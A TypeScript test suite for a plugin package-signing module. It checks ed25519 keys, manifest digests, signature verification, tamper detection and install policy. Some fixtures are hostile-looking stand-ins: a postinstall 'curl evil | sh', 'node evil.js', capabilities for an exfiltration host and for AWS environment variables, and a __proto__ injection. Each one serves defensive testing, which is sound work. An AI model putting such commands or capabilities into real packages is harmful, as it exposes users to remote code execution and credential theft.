import { createHash, createPublicKey, generateKeyPairSync } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AirlockError } from '../../src/errors.js';
import {
  COMPONENT_CHANGED,
  MANIFEST_CHANGED,
  SIGNATURE_FILE,
  enforcePolicy,
  generateKeyPair,
  keyIdOf,
  manifestDigest,
  signPackage,
  verifyPackage,
  type Signature,
  type Verification,
} from '../../src/install/signing.js';

const A = generateKeyPair();
const B = generateKeyPair();

let dir: string;
const pkgFile = () => join(dir, 'package.json');
const sigFile = () => join(dir, SIGNATURE_FILE);

const basePkg = () => ({
  name: '@acme/weather',
  version: '1.4.0',
  description: 'Weather tools',
  scripts: { build: 'airlock-plugin build' },
  devDependencies: { '@airlock/sdk': '^0.1.0' },
  airlock: { kind: 'tool', capabilities: { http: ['https://api.weather.dev'], storage: { quotaBytes: 1024 } } },
});

async function writePkg(pkg: Record<string, unknown>): Promise<void> {
  await writeFile(pkgFile(), JSON.stringify(pkg, null, 2));
}

async function editPkg(edit: (pkg: Record<string, any>) => void): Promise<void> {
  const pkg = JSON.parse(await readFile(pkgFile(), 'utf8')) as Record<string, any>;
  edit(pkg);
  await writePkg(pkg);
}

const readSig = async () => JSON.parse(await readFile(sigFile(), 'utf8')) as Signature;

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'airlock-signing-'));
  await mkdir(join(dir, 'dist'));
  await writeFile(join(dir, 'dist/plugin.wasm'), Buffer.from('\0asm component bytes'));
  await writePkg(basePkg());
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('generateKeyPair', () => {
  it('makes PEM ed25519 keys whose id is the start of the sha256 of the public key DER', () => {
    expect(A.publicKey).toMatch(/^-----BEGIN PUBLIC KEY-----\n/);
    expect(A.privateKey).toMatch(/^-----BEGIN PRIVATE KEY-----\n/);
    const der = createPublicKey(A.publicKey).export({ type: 'spki', format: 'der' });
    expect(A.keyId).toBe(createHash('sha256').update(der).digest('hex').slice(0, 16));
    expect(A.keyId).toMatch(/^[0-9a-f]{16}$/);
    expect(B.keyId).not.toBe(A.keyId);
    expect(keyIdOf(A.publicKey)).toBe(A.keyId);
  });

  it('keyIdOf refuses a key that is not ed25519', () => {
    const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 }).publicKey.export({ type: 'spki', format: 'pem' }).toString();
    expect(() => keyIdOf(rsa)).toThrow(expect.objectContaining({ code: 'SIGNING_KEY_INVALID' }));
    expect(() => keyIdOf('not a key')).toThrow(expect.objectContaining({ code: 'SIGNING_KEY_INVALID' }));
  });
});

describe('manifestDigest', () => {
  it('covers name, version and airlock, whatever the key order', () => {
    const pkg = basePkg();
    const reordered = { airlock: { capabilities: { storage: { quotaBytes: 1024 }, http: ['https://api.weather.dev'] }, kind: 'tool' }, version: '1.4.0', name: '@acme/weather' };
    expect(manifestDigest(pkg)).toBe(manifestDigest(reordered));
    const canonical = '{"airlock":{"capabilities":{"http":["https://api.weather.dev"],"storage":{"quotaBytes":1024}},"kind":"tool"},"name":"@acme/weather","version":"1.4.0"}';
    expect(manifestDigest(pkg)).toBe(createHash('sha256').update(canonical).digest('hex'));
  });

  it('ignores unrelated package.json fields', () => {
    const pkg = basePkg();
    expect(manifestDigest({ ...pkg, scripts: { postinstall: 'curl evil | sh' }, devDependencies: {}, description: 'other' })).toBe(manifestDigest(pkg));
  });

  it.each([
    ['a capability', (p: Record<string, any>) => p.airlock.capabilities.http.push('https://evil.example')],
    ['the array order of a capability', (p: Record<string, any>) => p.airlock.capabilities.http.unshift('https://b.example')],
    ['the version', (p: Record<string, any>) => (p.version = '1.4.1')],
    ['the name', (p: Record<string, any>) => (p.name = '@acme/weather2')],
    ['the component path', (p: Record<string, any>) => (p.airlock.component = 'other.wasm')],
  ])('changes with %s', (_, edit) => {
    const pkg = basePkg();
    const changed = structuredClone(pkg) as Record<string, any>;
    edit(changed);
    expect(manifestDigest(changed)).not.toBe(manifestDigest(pkg));
  });
});

describe('signPackage / verifyPackage', () => {
  it('signs, and verifies with the signing key trusted', async () => {
    const sig = await signPackage(dir, A.privateKey);
    expect(sig).toEqual<Signature>({
      version: 1,
      algorithm: 'ed25519',
      keyId: A.keyId,
      publicKey: A.publicKey,
      signed: {
        v: 1,
        id: 'weather',
        version: '1.4.0',
        manifestSha256: manifestDigest(basePkg()),
        componentSha256: createHash('sha256').update('\0asm component bytes').digest('hex'),
      },
      signature: expect.stringMatching(/^[A-Za-z0-9+/]{86}==$/) as unknown as string,
    });
    expect(await readSig()).toEqual(sig);
    expect(await verifyPackage(dir, [A.publicKey])).toEqual<Verification>({ status: 'signed', keyId: A.keyId });
    expect(await verifyPackage(dir, [B.publicKey, A.publicKey])).toEqual<Verification>({ status: 'signed', keyId: A.keyId });
  });

  it('signs the manifest id and the component it names', async () => {
    await editPkg((p) => Object.assign(p.airlock, { id: 'forecast', component: 'build/forecast.wasm' }));
    await mkdir(join(dir, 'build'));
    await writeFile(join(dir, 'build/forecast.wasm'), 'other bytes');
    const sig = await signPackage(dir, A.privateKey);
    expect(sig.signed.id).toBe('forecast');
    expect(sig.signed.componentSha256).toBe(createHash('sha256').update('other bytes').digest('hex'));
    expect(await verifyPackage(dir, [A.publicKey])).toEqual({ status: 'signed', keyId: A.keyId });
  });

  it('matches trusted keys by key, not by PEM spelling', async () => {
    await signPackage(dir, A.privateKey);
    const respelled = `\r\n${A.publicKey.replace(/\n/g, '\r\n')}\r\n`;
    expect(await verifyPackage(dir, [respelled])).toEqual({ status: 'signed', keyId: A.keyId });
  });

  it('reports an unsigned package', async () => {
    expect(await verifyPackage(dir, [A.publicKey])).toEqual({ status: 'unsigned' });
  });

  it('reports a valid signature by a key that is not trusted', async () => {
    await signPackage(dir, A.privateKey);
    expect(await verifyPackage(dir, [B.publicKey])).toEqual({ status: 'untrusted', keyId: A.keyId });
    expect(await verifyPackage(dir, [])).toEqual({ status: 'untrusted', keyId: A.keyId });
  });

  it('is invalid when the manifest changed after signing (capabilities)', async () => {
    await signPackage(dir, A.privateKey);
    await editPkg((p) => p.airlock.capabilities.http.push('https://exfiltrate.example'));
    expect(await verifyPackage(dir, [A.publicKey])).toEqual({ status: 'invalid', reason: MANIFEST_CHANGED });
    expect(MANIFEST_CHANGED).toBe('the manifest changed after signing (capabilities are part of what is signed)');
  });

  it('is invalid, not untrusted, when an untrusted package changed', async () => {
    await signPackage(dir, A.privateKey);
    await editPkg((p) => (p.airlock.capabilities.env = ['AWS_*']));
    expect(await verifyPackage(dir, [B.publicKey])).toEqual({ status: 'invalid', reason: MANIFEST_CHANGED });
  });

  it('is invalid when the component changed after signing', async () => {
    await signPackage(dir, A.privateKey);
    await writeFile(join(dir, 'dist/plugin.wasm'), Buffer.from('\0asm patched bytes!!'));
    expect(await verifyPackage(dir, [A.publicKey])).toEqual({ status: 'invalid', reason: COMPONENT_CHANGED });
    expect(COMPONENT_CHANGED).toBe('the component changed after signing');
  });

  it('is invalid when the component is gone', async () => {
    await signPackage(dir, A.privateKey);
    await rm(join(dir, 'dist/plugin.wasm'));
    const v = await verifyPackage(dir, [A.publicKey]);
    expect(v).toEqual({ status: 'invalid', reason: expect.stringContaining(COMPONENT_CHANGED) });
  });

  it('stays signed when unrelated package.json fields change', async () => {
    await signPackage(dir, A.privateKey);
    await editPkg((p) => {
      p.scripts = { postinstall: 'node evil.js' };
      p.devDependencies = { leftpad: '*' };
      p.description = 'changed';
    });
    expect(await verifyPackage(dir, [A.publicKey])).toEqual({ status: 'signed', keyId: A.keyId });
  });

  it('is invalid when the signature bytes are tampered with', async () => {
    await signPackage(dir, A.privateKey);
    const sig = await readSig();
    const bytes = Buffer.from(sig.signature, 'base64');
    bytes[10] = bytes[10]! ^ 0x01;
    await writeFile(sigFile(), JSON.stringify({ ...sig, signature: bytes.toString('base64') }));
    const v = await verifyPackage(dir, [A.publicKey]);
    expect(v.status).toBe('invalid');
    expect((v as { reason: string }).reason).toContain('does not verify');
  });

  it('is invalid when the signed payload is edited to match a new component', async () => {
    await signPackage(dir, A.privateKey);
    await writeFile(join(dir, 'dist/plugin.wasm'), 'malicious');
    const sig = await readSig();
    sig.signed.componentSha256 = createHash('sha256').update('malicious').digest('hex');
    await writeFile(sigFile(), JSON.stringify(sig));
    expect(await verifyPackage(dir, [A.publicKey])).toEqual({ status: 'invalid', reason: expect.stringContaining('does not verify') });
  });

  it('is invalid when the key in the file is swapped for a trusted one', async () => {
    await signPackage(dir, A.privateKey);
    const sig = await readSig();
    await writeFile(sigFile(), JSON.stringify({ ...sig, publicKey: B.publicKey, keyId: B.keyId }));
    expect((await verifyPackage(dir, [B.publicKey])).status).toBe('invalid');
    await writeFile(sigFile(), JSON.stringify({ ...sig, keyId: B.keyId }));
    expect(await verifyPackage(dir, [B.publicKey])).toEqual({ status: 'invalid', reason: expect.stringContaining('keyId') });
  });

  it('re-signing after a change makes it valid again', async () => {
    await signPackage(dir, A.privateKey);
    await editPkg((p) => (p.version = '1.5.0'));
    expect((await verifyPackage(dir, [A.publicKey])).status).toBe('invalid');
    await signPackage(dir, A.privateKey);
    expect(await verifyPackage(dir, [A.publicKey])).toEqual({ status: 'signed', keyId: A.keyId });
  });

  describe('a malformed signature file yields invalid, never a throw', () => {
    let good: Signature;
    beforeEach(async () => {
      good = await signPackage(dir, A.privateKey);
    });

    it.each<[string, (s: Signature) => unknown]>([
      ['null', () => null],
      ['an array', (s) => [s]],
      ['a string', () => 'signature'],
      ['an unknown version', (s) => ({ ...s, version: 2 })],
      ['another algorithm', (s) => ({ ...s, algorithm: 'rsa' })],
      ['a missing signature', ({ signature: _, ...rest }) => rest],
      ['a numeric signature', (s) => ({ ...s, signature: 12 })],
      ['a short signature', (s) => ({ ...s, signature: Buffer.alloc(32).toString('base64') })],
      ['non-base64 signature', (s) => ({ ...s, signature: '!'.repeat(88) })],
      ['a missing payload', ({ signed: _, ...rest }) => rest],
      ['a payload array', (s) => ({ ...s, signed: [] })],
      ['a payload of another version', (s) => ({ ...s, signed: { ...s.signed, v: 2 } })],
      ['an extra payload field', (s) => ({ ...s, signed: { ...s.signed, capabilities: 'all' } })],
      ['a bad digest', (s) => ({ ...s, signed: { ...s.signed, componentSha256: 'abc' } })],
      ['a bad keyId', (s) => ({ ...s, keyId: 'KEY' })],
      ['a publicKey that is not a key', (s) => ({ ...s, publicKey: 'hello' })],
      ['a publicKey object', (s) => ({ ...s, publicKey: { pem: s.publicKey } })],
      ['an RSA publicKey', (s) => ({ ...s, publicKey: generateKeyPairSync('rsa', { modulusLength: 1024 }).publicKey.export({ type: 'spki', format: 'pem' }) })],
      ['an extra top-level field', (s) => ({ ...s, trusted: true })],
      ['a __proto__ field', (s) => JSON.parse(`{"__proto__": {"status": "signed"}, ${JSON.stringify(s).slice(1)}`)],
    ])('%s', async (_, mutate) => {
      await writeFile(sigFile(), JSON.stringify(mutate(structuredClone(good))));
      const v = await verifyPackage(dir, [A.publicKey]);
      expect(v).toEqual({ status: 'invalid', reason: expect.stringContaining(SIGNATURE_FILE) });
    });

    it.each([
      ['not JSON', '{"version": 1,'],
      ['empty', ''],
      ['binary', '\u0000\u00ff\u0001'],
      ['huge', `{"pad": "${'x'.repeat(100_000)}"}`],
    ])('%s text', async (_, text) => {
      await writeFile(sigFile(), text);
      expect(await verifyPackage(dir, [A.publicKey])).toEqual({ status: 'invalid', reason: expect.stringContaining(SIGNATURE_FILE) });
    });

    it('a directory in its place', async () => {
      await rm(sigFile());
      await mkdir(sigFile());
      expect((await verifyPackage(dir, [A.publicKey])).status).toBe('invalid');
    });

    it('any JSON value', async () => {
      await fc.assert(
        fc.asyncProperty(fc.jsonValue(), async (value) => {
          await writeFile(sigFile(), JSON.stringify(value) ?? 'null');
          expect((await verifyPackage(dir, [A.publicKey])).status).toBe('invalid');
        }),
        { numRuns: 50 },
      );
    });
  });

  it('throws SIGNING_KEY_INVALID for a trusted key that is not an ed25519 public key', async () => {
    await expect(verifyPackage(dir, ['-----BEGIN PUBLIC KEY-----\nnope\n-----END PUBLIC KEY-----\n'])).rejects.toMatchObject({ code: 'SIGNING_KEY_INVALID' });
  });

  it('refuses to sign with a key that is not an ed25519 private key', async () => {
    const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 }).privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
    await expect(signPackage(dir, rsa)).rejects.toMatchObject({ code: 'SIGNING_KEY_INVALID', message: expect.stringContaining('rsa') });
    await expect(signPackage(dir, A.publicKey)).rejects.toMatchObject({ code: 'SIGNING_KEY_INVALID' });
  });

  it('refuses to sign a package without its component, or with an invalid manifest', async () => {
    await rm(join(dir, 'dist/plugin.wasm'));
    await expect(signPackage(dir, A.privateKey)).rejects.toMatchObject({ code: 'COMPONENT_INVALID', message: expect.stringContaining('dist/plugin.wasm') });
    await editPkg((p) => (p.airlock.capabilities = { network: true }));
    await expect(signPackage(dir, A.privateKey)).rejects.toMatchObject({ code: 'MANIFEST_INVALID' });
    await rm(pkgFile());
    await expect(signPackage(dir, A.privateKey)).rejects.toMatchObject({ code: 'PLUGIN_NOT_FOUND' });
  });
});

describe('enforcePolicy', () => {
  const signed: Verification = { status: 'signed', keyId: 'aaaaaaaaaaaaaaaa' };
  const unsigned: Verification = { status: 'unsigned' };
  const untrusted: Verification = { status: 'untrusted', keyId: 'bbbbbbbbbbbbbbbb' };
  const invalid: Verification = { status: 'invalid', reason: COMPONENT_CHANGED };

  function thrown(v: Verification, requireSigned: boolean): AirlockError {
    try {
      enforcePolicy(v, { requireSigned }, 'weather');
    } catch (e) {
      expect(AirlockError.isInstance(e)).toBe(true);
      return e as AirlockError;
    }
    throw new Error('expected enforcePolicy to throw');
  }

  it('passes a signed plugin silently under both policies', () => {
    expect(enforcePolicy(signed, { requireSigned: true }, 'weather')).toEqual({});
    expect(enforcePolicy(signed, { requireSigned: false }, 'weather')).toEqual({});
  });

  it.each([true, false])('always refuses an invalid signature (requireSigned: %s)', (requireSigned) => {
    const e = thrown(invalid, requireSigned);
    expect(e.code).toBe('SIGNATURE_INVALID');
    expect(e.plugin).toBe('weather');
    expect(e.message).toContain(COMPONENT_CHANGED);
    expect(e.hint).toContain('airlock sign <dir> --key <file>');
  });

  it('refuses an unsigned plugin when signatures are required', () => {
    const e = thrown(unsigned, true);
    expect(e.code).toBe('SIGNATURE_REQUIRED');
    expect(e.message).toContain('`weather` is not signed');
    expect(e.hint).toContain('airlock sign <dir> --key <file>');
  });

  it('refuses an untrusted key when signatures are required, naming the key', () => {
    const e = thrown(untrusted, true);
    expect(e.code).toBe('SIGNATURE_REQUIRED');
    expect(e.message).toContain('bbbbbbbbbbbbbbbb');
    expect(e.message).toContain('does not trust');
    expect(e.hint).toMatch(/trusted keys/);
    expect(e.hint).toContain('airlock sign <dir> --key <file>');
  });

  it('warns about unsigned and untrusted plugins when signatures are not required', () => {
    expect(enforcePolicy(unsigned, { requireSigned: false }, 'weather').warning).toMatch(/`weather` is not signed/);
    expect(enforcePolicy(untrusted, { requireSigned: false }, 'weather').warning).toMatch(/bbbbbbbbbbbbbbbb, which is not trusted/);
  });

  it('works end to end on a real package', async () => {
    await signPackage(dir, B.privateKey);
    const v = await verifyPackage(dir, [A.publicKey]);
    expect(enforcePolicy(v, { requireSigned: false }, 'weather').warning).toContain(B.keyId);
    expect(() => enforcePolicy(v, { requireSigned: true }, 'weather')).toThrow(expect.objectContaining({ code: 'SIGNATURE_REQUIRED' }));
  });
});
